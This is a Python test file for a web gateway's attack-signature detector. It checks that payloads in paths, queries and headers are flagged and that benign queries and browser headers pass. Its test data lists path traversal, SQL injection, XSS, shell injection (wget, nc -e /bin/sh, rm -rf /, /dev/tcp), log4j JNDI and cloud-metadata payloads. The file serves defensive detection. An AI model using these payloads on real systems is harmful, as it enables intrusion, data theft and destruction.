"""Attacks in paths and queries are seen; honest questions, prompts and headers are not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mnedge.gateway.signatures import _HARMLESS, _TELLING, ASKED, EVERYWHERE, hostile

ATTACKS = {
    "traversal": """../../etc/passwd|..\\..\\windows\\win.ini|file=../secret|/x/..;/admin|%2e%2e%2f
        a=..%2f..%2fetc|page=....//....//|..%5c..%5c|%252e%252e%252f|img/../../x|.%2e/.%2e/x""",
    "files": """/etc/passwd|/etc/shadow|/proc/self/environ|c:\\windows\\system32|boot.ini
        /.git/config|/web-inf/web.xml|.htaccess|f=/etc/hosts""",
    "sql": """' or '1'='1|' OR 1=1--|1 or 1=1|admin'--|1; drop table users|1 union select null
        1 UNION ALL SELECT username,password FROM users|sleep(5)|1 and 5=5
        '; exec xp_cmdshell('dir')|benchmark(1000000,md5(1))|waitfor delay '0:0:5'
        select * from information_schema.tables|pg_sleep(10)|' and 'a'='a|1' or 'x' like 'x
        ') or ('a'='a|x' and 1=(select count(*) from tabname)|order by 10--|load_file(0x61)
        1 into outfile '/tmp/x'|'; shutdown --|sqlite_master|' union select @@version #""",
    "xss": """<script>alert(1)</script>|<img src=x onerror=alert(1)>|javascript:alert(1)
        <svg onload=alert(1)>|<iframe src=//evil>|"onmouseover="alert(1)|<body onload=x>
        document.cookie|<object data=x>|data:text/html;base64,PHNjcmlwdD4=|<ScRiPt >x
        vbscript:msgbox(1)|<a href=x onclick=steal()>|<embed src=x>|<details ontoggle=x>""",
    "shell": """; cat /tmp/x|| id|&& whoami|`id`|$(id)|; wget http://e/x|| nc -e /bin/sh
        ;/bin/bash -i|;ls|&& curl e.com|; rm -rf /|$(curl e)|cat${IFS}x|;sleep 5
        () { :;}; echo vulnerable|x > /dev/tcp/1.2.3.4/99""",
    "template": """{{7*7}}|${7*7}|<%= 7*7 %>|#{7*7}|{{config.items()}}|{% for x in y %}
        {{''.__class__.__mro__}}|${T(java.lang.Runtime)}|{{request.application}}""",
    "log4j": """${jndi:ldap://e/x}|${${lower:j}ndi:x}|${env:AWS_KEY}|${jndi:dns://e}
        ${${::-j}ndi:rmi://e}|${sys:user.name}|${upper:x}""",
    "stream": """php://filter|file:///etc/x|gopher://e|expect://id|ldap://e/x|jar://x|dict://e
        phar://x""",
    "metadata": "http://169.254.169.254/latest/meta-data|metadata.google.internal",
    "split": "x\r\nset-cookie: a=b|a\nb: c",
}
HONEST = """hello world|status=running|blueprint=prime_range_scan|after=12.3|limit=50|wait=30
cursor=eyJhIjoxfQ|/api/v1/jobs/message-routing-1782990123456-0a1b2c3d4e5f/events|reason=it's late
q=select a job|q=union of both|sort=created_at|type=workflow.step.completed|agent=worker_1
name=O'Brien|from=2026-01-01T00:00:00Z|path=results/report.v2.json|/manual/quickstart
/mirrorneuron.job.v2.JobService/CreateJob|accept=text/html|next=/jobs/last|q=drop everything
run_id=nightly:2026-11-26|q=cats and dogs|filter=a>b|q=100% sure|tag=c++|q=what? why! ok...
theme=dark|kind=agents&format=svg|/artifacts/out/data..old.csv|version=1.2.32|e=a;b
q=order by mail|q=the id is 7|q=or not|q=(a) or (b)|actor=uid:1000|actor=token:ci"""


def words(text):
    """Attacks are parted by a bar without a blank beside it; `||` and `| ` belong to one."""
    import re

    lines = (line for line in text.split("\n        "))
    return [part for line in lines for part in re.split(r"(?<![| ])\|(?![| ])", line) if part]


@pytest.mark.parametrize(
    "attack", [part for text in ATTACKS.values() for part in words(text)], ids=repr
)
def test_an_attack_in_what_is_asked_is_seen(attack):
    assert hostile([attack], []) is not None


@pytest.mark.parametrize("text", HONEST.replace("\n", "|").split("|"))
def test_an_honest_question_is_not(text):
    assert hostile([text], [text]) is None


@pytest.mark.parametrize(
    "value",
    [
        "Mozilla/5.0 (Linux; U; Android 4.0.3; id-id; sh) AppleWebKit/534.30 (KHTML, like Gecko)",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        'attachment; filename="it\'s a select from.txt"',
        "grpc-python/1.76.0 grpc-c/51.0.0 (linux; chttp2)",
        "https://edge.example/jobs?next=/a/../b",
        'W/"67ab43", "xyzzy"; curl',
    ],
)
def test_headers_of_honest_programs_pass(value):
    assert hostile([], [value]) is None


@pytest.mark.parametrize(
    "value", ["${jndi:ldap://e/x}", "<script>", "() { :; }; /bin/id", "{{7*7}}"]
)
def test_headers_of_attackers_do_not(value):
    assert hostile([], [value]) is not None


WORDS = "/ . .. = - _ 1 169 etc on load select union master boot.ini javascript a passwd cmd win"
PIECES = st.sampled_from([*WORDS.split(), "schema", "1=1", "metadata", "b" * 50])


@given(st.lists(PIECES, max_size=12).map("".join))
def test_what_is_taken_for_harmless_at_one_look_is_matched_by_no_rule(text):
    if _HARMLESS.fullmatch(text):
        assert not [rule for rule in (*ASKED, *EVERYWHERE) if rule.pattern.search(text)]


LETTERS = st.sampled_from(
    ["<", "script", "${", "jndi", ":", "{{", "7*7", "}}", "() {", "}", ";", " "]
)


@given(st.lists(LETTERS | st.text(max_size=3), max_size=10).map("".join))
def test_a_header_that_a_rule_matches_is_never_passed_over(text):
    if [rule for rule in EVERYWHERE if rule.pattern.search(text)]:
        assert _TELLING.search(text)
